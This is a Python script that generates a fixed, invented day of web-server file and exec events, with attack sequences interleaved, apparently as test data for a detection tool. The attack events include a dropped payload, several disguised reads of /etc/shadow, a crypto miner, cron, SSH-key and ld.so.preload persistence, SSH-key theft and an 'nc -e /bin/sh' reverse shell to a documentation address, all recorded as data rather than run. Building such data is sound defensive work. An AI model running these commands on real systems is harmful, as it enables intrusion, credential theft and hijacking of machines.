#!/usr/bin/env python3
"""Writes events.jsonl: an invented day of a web server, with attacks in it.

The same events every time: a fixed seed, and no clock.
"""

import json
import random
from pathlib import Path

START = 1_793_750_400_000  # milliseconds since the Unix epoch
RANDOM = random.Random(20261104)

ROOT = {"name": "root", "id": 0}
WWW = {"name": "www-data", "id": 33}
ALICE = {"name": "alice", "id": 1000}


def file(operation, path, program, user, **more):
    return {"kind": "file", "operation": operation, "path": path, **more,
            "process": {"path": program}, "user": user}


def run(path, program, user, *arguments, **more):
    return {"kind": "exec", "path": path, "argv": [path.rsplit("/", 1)[-1], *arguments], **more,
            "process": {"path": program}, "user": user}


def nginx():
    page = f"/srv/www/shop/{RANDOM.choice('abcdefgh')}/{RANDOM.randrange(400)}.html"
    yield file("read", page, "/usr/sbin/nginx", WWW)
    yield file("modify", "/var/log/nginx/access.log", "/usr/sbin/nginx", WWW)


def cron():
    yield run("/usr/sbin/cron", "/usr/sbin/cron", ROOT)
    yield file("read", "/etc/crontab", "/usr/sbin/cron", ROOT)
    yield run("/usr/lib/sysstat/sa1", "/usr/bin/dash", ROOT, "1", "1")
    yield file("modify", f"/var/log/sysstat/sa{RANDOM.randrange(1, 29):02}", "/usr/lib/sysstat/sadc", ROOT)


def login():
    yield file("read", "/etc/shadow", "/usr/sbin/sshd", ROOT)
    yield file("read", "/etc/passwd", "/usr/sbin/sshd", ROOT)
    yield run("/usr/bin/bash", "/usr/sbin/sshd", ALICE, "-l")
    yield file("read", "/home/alice/.bashrc", "/usr/bin/bash", ALICE)


def work():
    name = f"/home/alice/shop/src/{RANDOM.choice(['cart', 'order', 'user'])}.py"
    yield run("/usr/bin/git", "/usr/bin/bash", ALICE, "status")
    yield file("read", "/home/alice/shop/.git/index", "/usr/bin/git", ALICE)
    yield file("create", name + ".swp", "/usr/bin/vim.basic", ALICE)
    yield file("rename", name + ".new", "/usr/bin/vim.basic", ALICE, target=name)
    yield run("/usr/bin/python3.11", "/usr/bin/bash", ALICE, "-m", "pytest")


def upgrade():
    yield run("/usr/bin/apt-get", "/usr/bin/bash", ROOT, "upgrade")
    for tool in ("curl", "openssl", "tar"):
        yield file("create", f"/usr/bin/{tool}.dpkg-new", "/usr/bin/dpkg", ROOT, mode=0o755)
        yield file("rename", f"/usr/bin/{tool}.dpkg-new", "/usr/bin/dpkg", ROOT, target=f"/usr/bin/{tool}")
    yield file("modify", "/var/lib/dpkg/status", "/usr/bin/dpkg", ROOT)


# Each attack: what happens, in order.
ATTACKS = [
    # A hole in the shop drops a program and runs it.
    [file("create", "/tmp/.x/payload", "/usr/sbin/php-fpm8.2", WWW, mode=0o755),
     run("/tmp/.x/payload", "/usr/bin/dash", WWW),
     run("/usr/bin/dash", "/usr/sbin/php-fpm8.2", WWW, "-c", "/tmp/../tmp/.x/payload",
         script="/tmp/.x/payload")],
    # It looks for passwords, by several names.
    [file("read", "/etc/shadow", "/usr/bin/cat", WWW),
     file("read", "/etc//./shadow", "/usr/bin/cat", WWW),
     file("read", "/proc/self/root/etc/shadow", "/usr/bin/cat", WWW),
     file("read", "/var/spool/../../etc/shadow", "/usr/bin/cat", WWW),
     file("read", "/srv/www/shop/upload/7.jpg", "/usr/bin/cat", WWW, requested="/etc/shadow"),
     file("link", "/etc/shadow", "/usr/bin/ln", WWW, target="/tmp/s")],
    # It mines, under its own name and from memory.
    [run("/var/tmp/xmrig", "/usr/bin/dash", WWW, "-o", "pool.example.com:3333"),
     run("memfd:kworker", "/usr/bin/perl", WWW),
     run("/srv/www/shop/upload/kworker", "/usr/bin/dash", WWW, requested="./xmrig",
         cwd="/srv/www/shop/upload")],
    # It wants to stay.
    [file("create", "/etc/cron.d/backup", "/usr/bin/dash", ROOT),
     file("modify", "/root/.ssh/authorized_keys", "/usr/bin/dash", ROOT),
     file("modify", "/etc/ld.so.preload", "/usr/bin/dash", ROOT),
     file("rename", "/etc/nginx", "/usr/bin/mv", ROOT, target="/etc/.nginx")],
    # It spreads.
    [file("read", "/home/alice/.ssh/id_ed25519", "/usr/bin/cat", WWW),
     run("/usr/bin/nc", "/usr/bin/dash", WWW, "-e", "/bin/sh", "198.51.100.7", "4444"),
     file("create", "/usr/bin/ls", "/usr/bin/cp", ROOT, mode=0o755)],
]


def day():
    events = []
    while len(events) < 2950:
        ordinary = RANDOM.choices([nginx, cron, login, work, upgrade], [60, 8, 4, 12, 1])[0]
        events.extend(ordinary())
    for number, attack in enumerate(ATTACKS):
        at = len(events) * (number + 1) // (len(ATTACKS) + 1)
        events[at:at] = attack
    # Lines that an unlucky collector wrote.
    events.insert(700, {"kind": "file", "operation": "read", "pth": "/etc/shadow", "user": WWW})
    events.insert(1400, {"kind": "teleport", "path": "/tmp"})
    return events


def main():
    lines = (json.dumps({"time": START + 29_000 * number, **event}, separators=(",", ":"))
             for number, event in enumerate(day()))
    Path(__file__).with_name("events.jsonl").write_text("\n".join(lines) + "\n")


if __name__ == "__main__":
    main()
